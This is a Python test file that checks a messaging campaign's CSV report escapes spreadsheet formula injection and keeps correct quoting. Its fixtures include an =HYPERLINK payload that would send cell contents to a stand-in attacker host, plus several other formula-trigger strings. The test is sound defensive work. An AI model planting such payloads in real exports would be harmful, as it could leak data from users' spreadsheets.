"""The CSV report never hands a spreadsheet a formula: a text cell that starts
like one is prefixed with `'`, and the CSV stays one properly quoted row per delivery."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from campaign_api import reports
from campaign_api.repo.deliveries import DeliveryRow

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def delivery(**fields: object) -> DeliveryRow:
    values: dict[str, object] = {
        "recipient_no": 1,
        "step_no": 1,
        "contact_id": "tg-main:42",
        "external_id": "42",
        "recipient_name": "Ann",
        "status": "sent",
        "attempts": 1,
        "platform_message_id": "m-1",
        "error_code": None,
        "error_reason": None,
        "composition": "static",
        "sent_at": datetime(2098, 1, 1, tzinfo=UTC),
        "finished_at": datetime(2098, 1, 1, tzinfo=UTC),
        **fields,
    }
    return DeliveryRow(**values)  # type: ignore[arg-type]


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(reports.header() + text, newline="")))


@pytest.mark.parametrize(
    "dangerous", [HYPERLINK, "+49 1512 3456789", "-5", "@SUM(A1:A9)", "\tx", "\r=1+1"]
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(dangerous: str) -> None:
    (row,) = parsed(reports.rows("telegram_bot", [delivery(recipient_name=dangerous)]))
    assert row["name"] == "'" + dangerous


def test_every_text_cell_is_neutralised() -> None:
    danger = delivery(
        contact_id="=c",
        external_id="+4915123456789",
        recipient_name="@n",
        status="-s",
        error_code="=e",
        error_reason="=reason",
        platform_message_id="+m",
        composition="=x",
        fallback_reason="-f",
        text="=1+1 is two",
    )
    (row,) = parsed(reports.rows("telegram_bot", [danger]))
    for column in (
        "contact_id",
        "recipient",
        "name",
        "status",
        "error_code",
        "error_reason",
        "platform_message_id",
        "composition",
        "fallback_reason",
        "text",
    ):
        assert row[column].startswith("'"), column
    assert row["recipient"] == "'+4915123456789"


def test_ordinary_values_and_quoting_are_kept() -> None:
    text = reports.rows("telegram_bot", [delivery(recipient_name='Ann "A", B=1\nsecond line')])
    (row,) = parsed(text)
    assert row["name"] == 'Ann "A", B=1\nsecond line'
    assert (row["recipient_no"], row["attempts"], row["recipient"]) == ("1", "1", "42")
    assert row["sent_at"] == "2098-01-01T00:00:00+00:00"
    assert text.startswith('1,1,tg-main:42,42,"Ann ""A"", B=1\nsecond line",telegram_bot,sent')
    assert text.endswith(",static,,\n")


def test_the_text_that_was_sent_is_the_last_column_as_it_was() -> None:
    sent = 'Hi Ann, "20%" off;\nreply STOP to opt out'
    (row,) = parsed(reports.rows("whatsapp", [delivery(text=sent)]))
    assert list(row)[-1] == "text"
    assert row["text"] == sent


def test_a_carriage_return_inside_a_cell_is_quoted() -> None:
    text = reports.rows("telegram_bot", [delivery(recipient_name="Ann\rBob")])
    assert ',"Ann\rBob",' in text
    assert parsed(text)[0]["name"] == "Ann\rBob"
